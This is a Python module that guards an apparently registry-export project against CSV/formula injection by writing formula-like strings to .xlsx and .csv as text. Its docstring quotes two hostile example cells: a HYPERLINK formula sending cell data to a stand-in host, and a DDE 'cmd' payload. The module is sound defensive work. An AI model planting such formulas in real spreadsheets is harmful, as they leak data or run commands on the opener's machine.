"""Cells that cannot run: every value the project writes to .xlsx or .csv goes through here.

A registry cell such as `=HYPERLINK("http://x/?"&A1,"click")` or `=cmd|' /C calc'!A0` must reach
the clerk's Excel as text, never as a live formula (CSV/formula injection, OWASP). The rule
lives in one function, `formula_like`: a string that starts with `=`, `+`, `-`, `@`, a tab or
a carriage return. Writers then make it text the way their format allows: a .xlsx cell typed
as a string with Excel's «quote prefix» (the cell stays text even when edited), a leading `'`
in .csv as OWASP advises. Numbers and dates are written as they are: they carry no formula.

`unquote_csv_cell` is the inverse for our own .csv read back (registry export -> import).
"""
from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_QUOTE = "'"


def formula_like(value: object) -> bool:
    """True for a string a spreadsheet would take for a formula (or that hides one behind a tab)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: object) -> object:
    """A value for csv.writer: formula-like strings get a leading `'`; anything else unchanged."""
    return CSV_QUOTE + value if formula_like(value) else value  # type: ignore[operator]


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(value) for value in values]


def unquote_csv_cell(text: str) -> str:
    """Undo `csv_cell` on reading: `'=1+2` -> `=1+2`; a lone apostrophe elsewhere is kept."""
    if text.startswith(CSV_QUOTE) and formula_like(text[1:]):
        return text[1:]
    return text


def xlsx_cell(sheet: Any, value: object) -> object:
    """A value for sheet.append(): formula-like strings become a text cell openpyxl will not
    write as a formula (data type «s», quote prefix); anything else is returned unchanged."""
    if not formula_like(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value)  # a plain Cell bound to the sheet; both sheet kinds accept it
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def xlsx_row(sheet: Any, values: Iterable[object]) -> list[object]:
    return [xlsx_cell(sheet, value) for value in values]


def append_row(sheet: Any, values: Iterable[object]) -> None:
    """sheet.append with every formula-like string written as text."""
    sheet.append(xlsx_row(sheet, values))
